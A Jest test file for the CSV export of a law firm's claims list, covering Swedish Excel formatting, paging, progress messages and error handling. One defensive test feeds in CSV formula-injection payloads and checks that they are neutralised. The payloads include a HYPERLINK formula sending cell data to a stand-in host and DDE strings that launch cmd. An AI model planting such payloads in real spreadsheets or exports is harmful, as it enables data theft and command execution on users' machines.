import { screen, waitFor } from '@testing-library/react';
import { type Claim, getClaimBases, lawFirmGetClaims } from 'shared-api';
import { errorResponse, handlerFor } from 'shared-api/testing';
import { gate, renderAs, rowsOf, server, setupTabTests, toastTexts } from '../testing';
import { ClaimCentre } from './claim-centre';
import { bases, type ClaimsRead, claim, claimPages, claims, recent, serveClaims } from './claim-fixtures';

setupTabTests();

/** Catches the files saved: each blob and the name it was saved under. */
function catchFiles() {
  const blobs: Blob[] = [];
  URL.createObjectURL = jest.fn((blob: Blob) => {
    blobs.push(blob);
    return 'blob:csv';
  });
  URL.revokeObjectURL = jest.fn();
  const names: string[] = [];
  jest.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(function (this: HTMLAnchorElement) {
    names.push(this.download);
  });
  return { blobs, names };
}

/** Renders the firm's claim centre with these claims, presses Export (CSV) and returns the file and its name. */
async function exportClaims(
  claims: Claim[],
  reads: ClaimsRead[] = [],
): Promise<{ name: string; bytes: Uint8Array }> {
  server.use(serveClaims('lawfirm', claims, reads), handlerFor(getClaimBases, bases));
  const { blobs, names } = catchFiles();
  const { user } = await renderAs('A', <ClaimCentre side="lawfirm" caseId={5} />);
  await waitFor(() => expect(rowsOf('Claims')).toHaveLength(Math.min(claims.length, 10)));
  await user.click(screen.getByRole('button', { name: 'Export (CSV)' }));
  await waitFor(() => expect(blobs).toHaveLength(1));
  return { name: names[0] ?? '', bytes: new Uint8Array(await new Response(blobs[0]).arrayBuffer()) };
}

/** `count` claims of 1.00 to `count`.00 kr, the first newest. */
const manyClaims = (count: number) =>
  Array.from({ length: count }, (_, index) =>
    claim(
      index + 1,
      `Faktura ${index + 1}.pdf`,
      'Pending',
      `${index + 1}.00`,
      new Date(Date.parse(recent) - index * 60_000).toISOString(),
    ),
  );

const linesOf = (bytes: Uint8Array) => new TextDecoder().decode(bytes.slice(3)).split('\r\n');

describe('the claims export', () => {
  afterEach(() => jest.restoreAllMocks());

  it('exports the shown claims as CSV for Swedish Excel', async () => {
    const { name, bytes } = await exportClaims(claims);
    expect(name).toMatch(/^claims-\d{4}-\d{2}-\d{2}\.csv$/);
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = linesOf(bytes);
    expect(lines[0]).toBe(
      'File;Status;Amount (SEK);Creditor;Organisation number;Basis;Reference;Priority right;Uploaded;Filed by;Debt collector;Comment',
    );
    expect(lines[1]).toContain('Faktura 1001.pdf;Pending;12500,50;Leverantören AB;556677-8899');
    expect(lines[4]).toBe('Total;;20500,75;;;;;;;;;');
  });

  // OWASP CSV injection: a cell a spreadsheet would run as a formula starts with ' instead.
  it('writes every cell that starts with =, +, -, @, a tab or a carriage return as text', async () => {
    const hostile = claim(
      9,
      '=HYPERLINK("http://evil.test/?d="&A1,"Öppna").pdf',
      'Pending',
      '10.00',
      recent,
      {
        claimRefernce: "+cmd|' /C calc'!A0",
        creditorName: '-2+3+cmd|calc',
        creditorCompanyOrgNr: '@SUM(1+1)*cmd|calc',
        createdBy: '\t=1+1',
        debtCollectorName: '\r=1+1',
        debtByDebtCollector: true,
        invoiceDocumentResponse: {
          invoiceName: '=HYPERLINK("http://evil.test/?d="&A1,"Öppna").pdf',
          invoiceFullName: 'stored-9.pdf',
          invoicecomment: '@SUM(A1:A9)',
          fileSize: 100,
        },
      },
    );
    const { bytes } = await exportClaims([hostile]);
    // One row: the cells hold no ';' and the only quoted ones are kept whole by the split.
    const row = new TextDecoder().decode(bytes.slice(3)).split('\r\n').slice(1, -2).join('\r\n');
    expect(row.split(';')).toEqual([
      `"'=HYPERLINK(""http://evil.test/?d=""&A1,""Öppna"").pdf"`,
      'Pending',
      '10,00',
      "'-2+3+cmd|calc",
      "'@SUM(1+1)*cmd|calc",
      'SupplierInvoice',
      "'+cmd|' /C calc'!A0",
      'No',
      expect.stringMatching(/^\d{4}-\d{2}-\d{2}$/),
      // A tab or a line break inside a cell starts a new cell for some readers: what follows it is neutralised too.
      "'\t'=1+1",
      `"'\r'=1+1"`,
      "'@SUM(A1:A9)",
    ]);
  });

  it('exports every claim the filters show, read 120 at a time, not only the page shown', async () => {
    const reads: ClaimsRead[] = [];
    const { bytes } = await exportClaims(manyClaims(250), reads);
    const exportReads = reads.filter((read) => read.query.pageSize === '120');
    expect(exportReads.map((read) => read.query)).toEqual([
      { caseId: '5', page: '1', pageSize: '120' },
      { caseId: '5', page: '2', pageSize: '120' },
      { caseId: '5', page: '3', pageSize: '120' },
    ]);
    const lines = linesOf(bytes);
    // The header, 250 claims, the total and the empty end of the last line.
    expect(lines).toHaveLength(253);
    expect(lines[1]).toMatch(/^Faktura 1\.pdf;Pending;1,00;/);
    expect(lines[250]).toMatch(/^Faktura 250\.pdf;Pending;250,00;/);
    // 1 + 2 + … + 250 kr.
    expect(lines[251]).toBe('Total;;31375,00;;;;;;;;;');
  });

  it('says how many claims it has read of how many while it reads, in Swedish too', async () => {
    const all = manyClaims(250);
    const { held, release } = gate();
    server.use(
      handlerFor(getClaimBases, bases),
      handlerFor(lawFirmGetClaims, async (call) => {
        if (call.url.searchParams.get('page') === '2' && call.url.searchParams.get('pageSize') === '120')
          await held;
        return claimPages(all)(call);
      }),
    );
    const { blobs } = catchFiles();
    const { user } = await renderAs('A', <ClaimCentre side="lawfirm" caseId={5} />, 'sv');
    await waitFor(() => expect(rowsOf('Fordringar')).toHaveLength(10));
    await user.click(screen.getByRole('button', { name: 'Exportera (CSV)' }));
    expect(await screen.findByText('Läser fordringarna: 120 av 250…')).toBeInTheDocument();
    release();
    await waitFor(() => expect(blobs).toHaveLength(1));
    expect(screen.queryByText(/Läser fordringarna/)).toBeNull();
  });

  it("sends the list's search and filters with each read of the export", async () => {
    const reads: ClaimsRead[] = [];
    server.use(serveClaims('lawfirm', claims, reads), handlerFor(getClaimBases, bases));
    const { blobs } = catchFiles();
    const { user } = await renderAs('A', <ClaimCentre side="lawfirm" caseId={5} />);
    await waitFor(() => expect(rowsOf('Claims')).toHaveLength(3));
    await user.selectOptions(screen.getByLabelText('Status'), 'Approved');
    await user.type(screen.getByRole('searchbox', { name: 'Search by file name or reference' }), 'faktura');
    await waitFor(() => expect(reads.at(-1)?.query.search).toBe('faktura'));
    await waitFor(() => expect(rowsOf('Claims')).toHaveLength(1));
    await user.click(screen.getByRole('button', { name: 'Export (CSV)' }));
    await waitFor(() => expect(blobs).toHaveLength(1));
    expect(reads.at(-1)?.query).toEqual({
      caseId: '5',
      page: '1',
      pageSize: '120',
      search: 'faktura',
      invoiceStatus: 'Approved',
    });
    const lines = linesOf(new Uint8Array(await new Response(blobs[0]).arrayBuffer()));
    expect(lines.slice(1)).toEqual([
      expect.stringMatching(/^Faktura 1002\.pdf;Approved;0,25;/),
      'Total;;0,25;;;;;;;;;',
      '',
    ]);
  });

  it('shows the button busy while it reads, and a failed read as an error toast without a file', async () => {
    const all = manyClaims(130);
    const answer = claimPages(all);
    let release = () => {};
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    server.use(
      handlerFor(lawFirmGetClaims, async (context) => {
        if (
          context.url.searchParams.get('page') !== '2' ||
          context.url.searchParams.get('pageSize') !== '120'
        )
          return answer(context);
        await held;
        return errorResponse(500, 'The claims could not be read');
      }),
      handlerFor(getClaimBases, bases),
    );
    const { blobs } = catchFiles();
    const { user } = await renderAs('A', <ClaimCentre side="lawfirm" caseId={5} />);
    await waitFor(() => expect(rowsOf('Claims')).toHaveLength(10));
    const button = screen.getByRole('button', { name: 'Export (CSV)' });
    await user.click(button);
    await waitFor(() => expect(button).toHaveAttribute('aria-busy', 'true'));
    release();
    await waitFor(() => expect(toastTexts()).toContain('error: The claims could not be read'));
    expect(button).not.toHaveAttribute('aria-busy', 'true');
    expect(blobs).toEqual([]);
  });

  it('words a failure the server does not explain in the language of the page', async () => {
    server.use(
      handlerFor(lawFirmGetClaims, (context) =>
        context.url.searchParams.get('pageSize') === '120'
          ? new Response('', { status: 500 })
          : claimPages(claims)(context),
      ),
      handlerFor(getClaimBases, bases),
    );
    const { blobs } = catchFiles();
    const { user } = await renderAs('A', <ClaimCentre side="lawfirm" caseId={5} />, 'sv');
    await waitFor(() => expect(rowsOf('Fordringar')).toHaveLength(3));
    await user.click(screen.getByRole('button', { name: 'Exportera (CSV)' }));
    await waitFor(() => expect(toastTexts()).toContain('error: Det gick inte att exportera fordringslistan'));
    expect(blobs).toEqual([]);
  });

  it('leaves other cells as they are', async () => {
    const plain = claim(10, 'Faktura 2001.pdf', 'Pending', '10.00', recent, {
      claimRefernce: 'F-2001 = mars',
      creditorName: 'A-ett AB',
    });
    const row = linesOf((await exportClaims([plain])).bytes)[1] ?? '';
    expect(row.startsWith('Faktura 2001.pdf;Pending;10,00;A-ett AB;')).toBe(true);
    expect(row).toContain(';F-2001 = mars;');
    expect(row).not.toContain("'");
  });
});
